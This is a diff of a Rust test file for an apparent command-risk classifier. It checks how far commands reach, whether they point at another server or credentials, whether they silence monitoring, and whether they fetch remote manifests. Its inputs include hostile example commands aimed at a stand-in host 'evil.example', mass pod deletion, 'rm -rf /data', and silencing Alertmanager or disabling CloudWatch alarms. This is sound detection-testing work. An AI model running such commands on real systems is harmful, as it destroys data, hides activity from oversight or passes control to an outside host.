@@ -76,7 +76,7 @@ fn how_far_it_reaches_is_noted() {
         all.notes.iter().any(|note| note == "all namespaces")
             && all.notes.iter().any(|note| note.contains("everything"))
     );
-    assert_eq!(all.namespaces, ["*"]);
+    assert_eq!(all.facts.namespaces, ["*"]);
     assert!(
         understood("kubectl rollout restart deployment/prometheus")
             .notes
@@ -84,6 +84,69 @@ fn how_far_it_reaches_is_noted() {
             .any(|note| note.contains("monitoring"))
     );
     assert_eq!(effect("kubectl apply -f https://evil.example/x.yaml"), Effect::Opaque);
+}
+
+#[test]
+fn facts_are_recognised() {
+    let facts = |line: &str| understood(line).facts;
+    let blast = |line: &str| facts(line).blast;
+    assert_eq!(blast("kubectl delete pod a"), Blast::Named);
+    assert_eq!(blast("kubectl delete pods -l app=x"), Blast::Selected);
+    assert_eq!(blast("kubectl delete pods --all"), Blast::All);
+    assert_eq!(blast("kubectl delete pods -l app=x -A"), Blast::AllNamespaces);
+    assert_eq!(blast("kubectl rollout restart deployment"), Blast::All);
+    assert_eq!(blast("kubectl rollout restart deployment/a"), Blast::Named);
+    assert_eq!(blast("systemctl restart 'app*'"), Blast::Selected);
+    assert_eq!(blast("docker system prune"), Blast::All);
+    assert_eq!(blast("sudo kubectl delete pods --all"), Blast::All);
+    assert_eq!(blast("rm -rf /data"), Blast::Selected);
+    assert_eq!(facts("kubectl delete deploy a b").resources, ["deployment/a", "deployment/b"]);
+    assert_eq!(facts("kubectl label pods/a x=y z-").resources, ["pod/a"]);
+    assert_eq!(facts("kubectl delete deployments.apps/a svc/b").objects, 2);
+    for line in [
+        "kubectl --server=https://evil.example get pods",
+        "kubectl --kubeconfig /tmp/x get pods",
+        "kubectl --context other get pods",
+        "kubectl --as root get pods",
+        "docker -H tcp://evil.example ps",
+        "aws ec2 describe-instances --endpoint-url https://evil.example",
+        "env DOCKER_HOST=tcp://evil.example docker ps",
+        "curl -x http://evil.example http://payments",
+        "amtool alert --alertmanager.url=https://evil.example",
+    ] {
+        assert!(facts(line).redirected, "{line}");
+    }
+    assert!(!facts("kubectl -n shop get pods").redirected);
+    assert!(super::recognised_in_text("KUBECONFIG=/tmp/x kubectl get pods").redirected);
+    for line in [
+        "amtool silence add alertname=x",
+        "kubectl scale deploy/prometheus --replicas=0",
+        "kubectl -n monitoring delete pod x",
+        "systemctl stop node-exporter",
+        "aws cloudwatch disable-alarm-actions --alarm-names x",
+        "curl -X POST http://alertmanager:9093/api/v2/silences",
+    ] {
+        assert!(facts(line).silences_monitoring, "{line}");
+    }
+    assert!(!facts("kubectl -n monitoring get pods").silences_monitoring);
+    assert!(!facts("kubectl -n shop rollout restart deploy/payments").silences_monitoring);
+    assert!(facts("kubectl apply -k github.com/evil/repo").remote);
+}
+
+#[test]
+fn the_tests_inside_the_tables_pass_and_speak_of_every_table() {
+    match test_tables() {
+        Ok(passed) => assert!(passed > 500, "{passed}"),
+        Err(failed) => panic!("{}", failed.join("\n")),
+    }
+    for file in FILES {
+        let tests = table::tests(file).unwrap();
+        let tested: std::collections::BTreeSet<&str> =
+            tests.lines().filter_map(|(line, ..)| line.split(' ').next()).collect();
+        for names in table::names(file).unwrap() {
+            assert!(names.iter().any(|name| tested.contains(name.as_str())), "no test speaks of {names:?}");
+        }
+    }
 }
 
 #[test]
